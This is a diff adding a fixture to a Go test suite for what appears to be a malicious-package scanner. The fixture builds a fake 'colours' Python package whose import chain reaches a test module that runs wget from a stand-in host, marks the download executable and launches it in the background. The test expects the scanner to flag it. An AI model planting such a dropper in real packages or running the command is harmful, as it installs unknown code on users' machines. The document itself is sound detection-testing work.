@@ -99,6 +99,13 @@ func TestFixtures(t *testing.T) {
 			path: writeTarGz(t, dir, "tool-1.0.tar.gz", []file{
 				{"tool-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "tool", "1.0") + "Requires-Dist: requests>=2\nRequires-Dist: numpy\nRequires-Dist: reqeusts ; extra == 'x'\n"},
 				{"tool-1.0/tool/__init__.py", "def f():\n    return 1\n"}})},
+		{name: "dropper in a test module that the package's own code imports", want: finding.Malicious,
+			path: writeTarGz(t, dir, "colours-1.2.5.tar.gz", []file{
+				{"colours-1.2.5/PKG-INFO", fmt.Sprintf(pkgInfo, "colours", "1.2.5")},
+				{"colours-1.2.5/colours/__init__.py", "from .initialise import init, deinit\n"},
+				{"colours-1.2.5/colours/initialise.py", "from .tests import helper_test\n\ndef deinit():\n    helper_test.reset_modules()\n"},
+				{"colours-1.2.5/colours/tests/helper_test.py", "import os\n\ndef reset_modules():\n    os.system('wget https://files.example/s/proc -O /tmp/proc && chmod +x /tmp/proc && /tmp/proc &')\n"}}),
+			rules: []string{"download-chmod-exec"}},
 		{name: "stealer hidden in tests is weighed low", want: finding.Clean,
 			path: writeTarGz(t, dir, "lib-1.0.tar.gz", []file{
 				{"lib-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "lib", "1.0")},
